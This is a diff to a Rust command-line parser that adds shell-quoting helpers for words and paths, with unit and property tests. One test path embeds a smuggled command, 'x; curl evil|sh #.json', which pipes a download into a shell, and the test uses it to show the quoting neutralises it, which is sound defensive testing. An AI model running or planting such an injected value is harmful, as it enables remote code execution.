@@ -3,6 +3,8 @@
 //! No shell runs it: quotes, backslashes and leading `NAME=value` words are
 //! understood, and nothing is expanded.
 
+use std::path::{Path, PathBuf};
+
 /// A command line, cut.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct CommandLine {
@@ -61,6 +63,30 @@ impl CommandLine {
         }
         self
     }
+}
+
+/// A word as a shell reads it back, whatever is in it: what is printed as a command may be pasted.
+pub fn shell_word(word: &str) -> String {
+    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "_-./:@%+,".contains(letter);
+    if !word.is_empty() && word.chars().all(is_plain) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', "'\\''"))
+}
+
+/// The same of a path, which is never an option.
+pub fn shell_path(path: &Path) -> String {
+    let word = path.to_string_lossy();
+    match word.starts_with('-') {
+        true => shell_word(&format!("./{word}")),
+        false => shell_word(&word),
+    }
+}
+
+/// Paths, one after the other.
+pub fn shell_paths<'p>(paths: impl IntoIterator<Item = &'p PathBuf>) -> String {
+    let words: Vec<String> = paths.into_iter().map(|path| shell_path(path)).collect();
+    words.join(" ")
 }
 
 fn assignment(word: &str) -> Option<(&str, &str)> {
@@ -146,10 +172,27 @@ mod tests {
         }
     }
 
+    #[test]
+    fn a_path_is_one_word_and_no_option() {
+        let paths = ["a/b-1.json", "x; curl evil|sh #.json", "-o", "it's", ""].map(PathBuf::from);
+        assert_eq!(
+            shell_paths(&paths),
+            r"a/b-1.json 'x; curl evil|sh #.json' ./-o 'it'\''s' ''"
+        );
+    }
+
     proptest::proptest! {
         #[test]
         fn single_quotes_keep_everything(words in proptest::collection::vec("[^'\u{0}]{0,8}", 1..5)) {
             let quoted: Vec<String> = words.iter().map(|word| format!("'{word}'")).collect();
+            let command = format!("prog {}", quoted.join(" "));
+            let cut = CommandLine::parse(&command).expect("quoted words");
+            proptest::prop_assert_eq!(cut.arguments, words);
+        }
+
+        #[test]
+        fn what_is_quoted_is_read_back(words in proptest::collection::vec("[^\u{0}]{0,8}", 1..5)) {
+            let quoted: Vec<String> = words.iter().map(|word| shell_word(word)).collect();
             let command = format!("prog {}", quoted.join(" "));
             let cut = CommandLine::parse(&command).expect("quoted words");
             proptest::prop_assert_eq!(cut.arguments, words);
